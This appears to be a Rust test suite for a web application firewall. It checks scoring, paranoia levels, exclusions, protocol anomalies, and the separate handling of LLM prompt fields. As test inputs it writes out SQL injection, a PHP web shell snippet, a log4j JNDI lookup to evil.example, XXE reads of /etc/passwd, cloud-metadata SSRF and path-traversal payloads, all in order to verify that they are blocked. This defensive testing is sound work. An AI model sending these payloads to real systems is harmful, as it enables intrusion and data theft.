//! API behaviour: scoring, paranoia levels, exclusions, LLM-aware handling, anomalies.

use palisade_waf::{Config, Exclusion, Request, Waf};

fn waf(cfg: Config) -> Waf {
    Waf::new(cfg).expect("valid config")
}

fn get(path: &str) -> Request {
    Request::new("GET", path)
        .header("Host", "example.com")
        .header("User-Agent", "Mozilla/5.0")
        .header("Accept", "*/*")
}

#[test]
fn benign_passes_and_attack_blocks() {
    let w = waf(Config::default());
    let v = w.inspect(&get("/search?q=select+the+best+option+or+1+of+them"));
    assert!(!v.blocked, "{v:?}");
    let v = w.inspect(&get("/search?q=1%27%20or%20%271%27%3D%271"));
    assert!(v.blocked && v.score >= 5, "{v:?}");
    assert!(v
        .matches
        .iter()
        .any(|m| m.category == "sqli" && m.target == "ARGS:q"));
}

#[test]
fn exclusions_apply_per_route_and_target() {
    let cfg = Config {
        exclusions: vec![Exclusion {
            path: "/docs/*".into(),
            targets: vec!["ARGS:snippet".into()],
            categories: vec!["sqli".into()],
            ..Exclusion::default()
        }],
        ..Config::default()
    };
    let w = waf(cfg);
    assert!(
        !w.inspect(&get("/docs/page?snippet=1%20union%20select%20a%20from%20b"))
            .blocked
    );
    assert!(
        w.inspect(&get("/other?snippet=1%20union%20select%20a%20from%20b"))
            .blocked
    );
}

#[test]
fn llm_fields_handed_to_guard() {
    let w = waf(Config::default());
    let body = r#"{"model":"m","messages":[{"role":"user","content":"How do I fix: SELECT * FROM users WHERE id = 1 OR 1=1 -- and <script>alert(1)</script>?"}]}"#;
    let req = Request::new("POST", "/v1/chat/completions")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    let v = w.inspect(&req);
    assert!(!v.blocked, "{v:?}");
    assert_eq!(
        v.handed_to_guard,
        vec!["JSON:messages[0].content".to_string()]
    );
    // The same payload in a non-prompt field is inspected.
    let body = r#"{"model":"1 OR 1=1 UNION SELECT password FROM users"}"#;
    let req = Request::new("POST", "/v1/chat/completions")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    assert!(w.inspect(&req).blocked);
    // A route can opt back into full inspection.
    let mut cfg = Config::default();
    cfg.llm.inspect_routes = vec!["/internal/*".into()];
    let w2 = waf(cfg);
    let body = r#"{"prompt":"1' OR '1'='1' --"}"#;
    let req = Request::new("POST", "/internal/x")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    assert!(w2.inspect(&req).blocked);
}

/// Questions developers ask a model about code and protocols: each was
/// blocked (403) in a prompt while only the injection categories were
/// skipped there, `php` misspelt for `php-injection`.
const DEVELOPER_QUESTIONS: &[&str] = &[
    "Can you review this PHP snippet? <?php echo shell_exec($_GET['cmd']); ?> Is it safe?",
    "Why does my code `<?php include($_GET['page'] . '.php'); ?>` get flagged by our scanner?",
    "Explain what ${jndi:ldap://evil.example/a} does in a log4j log line.",
    "My Java app uses Runtime.getRuntime().exec(cmd); how do I sanitise cmd?",
    "Explain this XML: <!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "Line one\r\nLine two\r\nSet-Cookie: is a header I saw in the response, what does it do?",
    "Here is my request:\nPOST /login HTTP/1.1\nHost: example.com\nContent-Length: 10\n\nwhy 400?",
    "What does __proto__ pollution mean? e.g. {\"__proto__\": {\"admin\": true}}",
    "Explain: while(!0){} in node blocks the event loop?",
    "My email template has\nBCC: someone@example.com\nin it, is that a problem?",
    "Explain Ruby's `system(\"ls\")` vs backticks.",
    "Is http://localhost:8080/admin reachable from inside the container?",
    "Explain <meta http-equiv=\"Set-Cookie\" content=\"SESSID=abc\"> in old browsers",
    "Our canary token uses abc.oastify.com; what is Burp Collaborator?",
];

fn chat(field: &str, text: &str) -> Request {
    let body = serde_json::json!({
        "model": "m",
        field: text,
        "messages": [{"role": "user", "content": if field == "messages" { text } else { "hi" }}],
    });
    Request::new("POST", "/v1/chat/completions")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body.to_string())
}

#[test]
fn questions_about_code_in_a_prompt_pass_and_the_code_elsewhere_does_not() {
    let w = waf(Config::default());
    let mut blocked_elsewhere = 0;
    for q in DEVELOPER_QUESTIONS {
        let v = w.inspect(&chat("messages", q));
        assert!(!v.blocked && v.matches.is_empty(), "{q:?}: {v:?}");
        // The same text in a field that is not a prompt is read by every
        // rule.
        blocked_elsewhere += usize::from(w.inspect(&chat("user", q)).blocked);
    }
    assert!(
        blocked_elsewhere >= DEVELOPER_QUESTIONS.len() - 2,
        "{blocked_elsewhere} of {} blocked in a plain field",
        DEVELOPER_QUESTIONS.len()
    );
    // A prompt's encoding anomalies are still the WAF's.
    let v = w.inspect(&chat("messages", "hi\u{0}there"));
    assert!(v.anomalies.iter().any(|a| a.code == "null_byte"), "{v:?}");
}

#[test]
fn prompts_skip_every_category_the_built_in_rules_have() {
    // The default skip list is written out; a category added to the
    // built-in rules must join it, or its rules run on prompts again.
    let w = waf(Config {
        paranoia_level: 4,
        ..Config::default()
    });
    for r in w.rules().rules() {
        assert!(
            palisade_waf::config::NATURAL_SKIP.contains(&r.spec.category.as_str()),
            "{} ({}) is not in NATURAL_SKIP",
            r.spec.id,
            r.spec.category
        );
    }
}

#[test]
fn an_unknown_category_to_skip_is_refused_by_name() {
    let mut cfg = Config::default();
    cfg.llm.skip_categories.push("php".into());
    let err = Waf::new(cfg).err().expect("refused").to_string();
    assert!(
        err.contains("\"php\"") && err.contains("php-injection"),
        "{err}"
    );
    // Skipping fewer categories is allowed, and then they run on prompts.
    let mut cfg = Config::default();
    cfg.llm.skip_categories.retain(|c| c != "php-injection");
    let v = waf(cfg).inspect(&chat("messages", DEVELOPER_QUESTIONS[0]));
    assert!(
        v.matches.iter().any(|m| m.category == "php-injection"),
        "{v:?}"
    );
}

#[test]
fn paranoia_levels_gate_rules() {
    let r = get("/x?u=https://evil.example/a");
    assert!(!waf(Config::default()).inspect(&r).blocked);
    assert!(
        waf(Config {
            paranoia_level: 2,
            ..Config::default()
        })
        .inspect(&r)
        .blocked
    );
}

#[test]
fn protocol_anomalies() {
    let w = waf(Config::default());
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Length", "5")
        .header("Transfer-Encoding", "chunked")
        .body("hello");
    let v = w.inspect(&r);
    assert!(v.blocked && v.anomalies.iter().any(|a| a.code == "cl_and_te"));
    let r = Request::new("GET", "/")
        .header("Host", "a")
        .header("Host", "b");
    assert!(w.inspect(&r).blocked);
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Type", "multipart/form-data; boundary=\"\"")
        .body("--\r\n");
    assert!(w
        .inspect(&r)
        .anomalies
        .iter()
        .any(|a| a.code.starts_with("multipart")));
    let r = Request::new("BREW", "/").header("Host", "x");
    assert!(w.inspect(&r).blocked);
    let v = w.inspect(&get("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"));
    assert!(v.blocked && v.anomalies.iter().any(|a| a.code == "overlong_utf8"));
}

#[test]
fn xxe_and_ssrf_and_jndi() {
    let w = waf(Config::default());
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Type", "application/xml")
        .body(r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#);
    assert!(w.inspect(&r).blocked);
    assert!(
        w.inspect(&get("/fetch?url=http://169.254.169.254/latest/meta-data/"))
            .blocked
    );
    assert!(w.inspect(&get("/fetch?url=http://0xA9FEA9FE/")).blocked);
    let r = get("/").header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}");
    assert!(w.inspect(&r).blocked);
    assert!(w.inspect(&get("/p?name[$ne]=1")).blocked);
}

#[test]
fn verdict_evidence_is_escaped_and_short() {
    let w = waf(Config::default());
    let long = format!("/x?q=%3Cscript%3E{}%0a", "a".repeat(500));
    let v = w.inspect(&get(&long));
    assert!(v
        .matches
        .iter()
        .all(|m| m.evidence.chars().count() <= 81 && !m.evidence.contains('\n')));
}
